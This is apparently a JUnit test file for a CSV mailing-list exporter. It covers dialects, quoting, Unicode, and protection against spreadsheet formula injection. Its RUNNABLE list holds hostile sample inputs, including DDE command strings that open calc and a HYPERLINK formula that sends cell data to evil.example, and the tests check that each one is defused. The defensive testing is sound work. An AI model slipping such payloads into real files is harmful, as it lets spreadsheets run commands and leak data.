package fi.kanta.export;

import static fi.kanta.export.MailingLists.HOSTILE;
import static fi.kanta.export.MailingLists.RECIPIENT_COLUMNS;
import static fi.kanta.export.MailingLists.TEXT_COLUMNS;
import static fi.kanta.export.MailingLists.UNICODE;
import static fi.kanta.export.MailingLists.anna;
import static fi.kanta.export.MailingLists.blank;
import static fi.kanta.export.MailingLists.textRows;
import static fi.kanta.export.MailingLists.written;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class CsvListWriterTest {

    @Test
    void theFileStartsWithAByteOrderMarkAndIsUtf8() throws IOException {
        byte[] csv = written(CsvListWriter.commas(), TEXT_COLUMNS, textRows(List.of("Äijä")).iterator());
        assertThat(Arrays.copyOf(csv, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        assertThat(new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8)).isEqualTo("Note,Offer code\r\nÄijä,Äijä\r\n");
    }

    @Test
    void commasWithADecimalDot() throws IOException {
        String csv = text(written(CsvListWriter.commas(), RECIPIENT_COLUMNS, List.of(anna(), blank()).iterator()));
        assertThat(csv.lines()).containsExactly(
                "First name,Postal code,Phone,Repeat purchases,P(alive),CLV (12 months),Last purchase,Sent,Consented",
                "Anna,00100,+358401234567,7,0.8125,1234.50,2026-03-14,2026-11-23 14:05:00,TRUE",
                "Erkki,,,,,,,,");
    }

    @Test
    void semicolonsWithADecimalComma() throws IOException {
        String csv = text(written(CsvListWriter.semicolons(), RECIPIENT_COLUMNS, List.<Object[]>of(anna()).iterator()));
        assertThat(csv.lines()).containsExactly(
                "First name;Postal code;Phone;Repeat purchases;P(alive);CLV (12 months);Last purchase;Sent;Consented",
                "Anna;00100;+358401234567;7;0,8125;1234,50;2026-03-14;2026-11-23 14:05:00;TRUE");
    }

    @Test
    void negativeNumbersAreNumbersWithoutAnApostrophe() throws IOException {
        List<ListColumn> columns = List.of(StandardColumn.TOTAL_SPEND.column(), StandardColumn.P_ALIVE.column());
        String csv = text(written(CsvListWriter.semicolons(), columns, List.<Object[]>of(new Object[] {new BigDecimal("-12.5"), 0.1}).iterator()));
        assertThat(csv.lines().skip(1)).containsExactly("-12,50;0,1");
    }

    /** What a spreadsheet would run as a formula when it opens the CSV file. */
    private static final List<String> RUNNABLE = List.of("=cmd|' /C calc'!A0", "=1+1", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1)", "\t=1+2", "\r=1+3", "\n=1+4", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "-Anna-", "+", "-");

    /** Plain signed numbers and phone numbers: a spreadsheet reads them as values, so no apostrophe shows. */
    private static final List<String> PLAIN = List.of("+358 40 123 4567", "+358401234567", "-49,90", "-1234.50", "-2", "+1",
            "-1 234,50");

    @Test
    void formulaLookingTextGetsALeadingApostrophe() throws IOException {
        List<CSVRecord> records = parsed(written(CsvListWriter.commas(), TEXT_COLUMNS, textRows(RUNNABLE).iterator()), ',');
        for (int i = 0; i < RUNNABLE.size(); i++) {
            assertThat(records.get(i + 1).values()).containsExactly("'" + RUNNABLE.get(i), "'" + RUNNABLE.get(i));
        }
        String csv = text(written(CsvListWriter.commas(), TEXT_COLUMNS, textRows(HOSTILE).iterator()));
        assertThat(csv).contains("\r\n'=cmd|' /C calc'!A0,'=cmd|' /C calc'!A0\r\n");
        assertThat(csv).contains("\r\n'@SUM(A1),'@SUM(A1)\r\n");
    }

    @Test
    void plainPhoneNumbersAndNegativeAmountsGetNoApostrophe() throws IOException {
        List<CSVRecord> records = parsed(written(CsvListWriter.semicolons(), TEXT_COLUMNS, textRows(PLAIN).iterator()), ';');
        for (int i = 0; i < PLAIN.size(); i++) {
            assertThat(records.get(i + 1).values()).containsExactly(PLAIN.get(i), PLAIN.get(i));
        }
    }

    @Test
    void fieldsWithLineBreaksQuotesAndDelimitersAreQuoted() throws IOException {
        List<String> texts = List.of("Line one\nline two", "Zoë \"the quote\" O'Brien, Jr.", "a;b");
        String commas = text(written(CsvListWriter.commas(), TEXT_COLUMNS, textRows(texts).iterator()));
        assertThat(commas).contains("\"Line one\nline two\",\"Line one\nline two\"\r\n")
                .contains("\"Zoë \"\"the quote\"\" O'Brien, Jr.\"").contains("\r\na;b,a;b\r\n");
        String semicolons = text(written(CsvListWriter.semicolons(), TEXT_COLUMNS, textRows(texts).iterator()));
        assertThat(semicolons).contains("\r\n\"a;b\";\"a;b\"\r\n");
    }

    @Test
    void unicodeAndQuotedTextComeBackAsWritten() throws IOException {
        for (var dialect : Map.of(',', CsvListWriter.commas(), ';', CsvListWriter.semicolons()).entrySet()) {
            byte[] csv = written(dialect.getValue(), TEXT_COLUMNS, textRows(UNICODE).iterator());
            List<CSVRecord> records = parsed(csv, dialect.getKey());
            assertThat(records).hasSize(UNICODE.size() + 1);
            for (int i = 0; i < UNICODE.size(); i++) {
                assertThat(records.get(i + 1).values()).containsExactly(UNICODE.get(i), UNICODE.get(i));
            }
        }
    }

    @Test
    void aValueOfTheWrongKindNamesItsColumn() {
        Object[] row = anna();
        row[3] = 7.5;
        assertThatThrownBy(() -> written(CsvListWriter.commas(), RECIPIENT_COLUMNS, List.<Object[]>of(row).iterator()))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("'Repeat purchases' (INTEGER)");
    }

    @Test
    void theSummaryCountsRowsAndTheStreamStaysOpen() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ListSummary summary;
        try (ListFile file = CsvListWriter.commas().open(out, ListDocument.titled("t"), TEXT_COLUMNS)) {
            file.add("a", "b");
            file.add("c", null);
            summary = file.finish();
        }
        out.write('!');
        assertThat(summary).isEqualTo(new ListSummary(2, 1, 0));
        assertThat(text(out.toByteArray())).endsWith("c,\r\n!");
    }

    /** The text after the byte-order mark. */
    private static String text(byte[] csv) {
        return new String(csv, StandardCharsets.UTF_8).substring(1);
    }

    private static List<CSVRecord> parsed(byte[] csv, char delimiter) throws IOException {
        return CSVFormat.RFC4180.builder().setDelimiter(delimiter).get().parse(new StringReader(text(csv))).getRecords();
    }
}
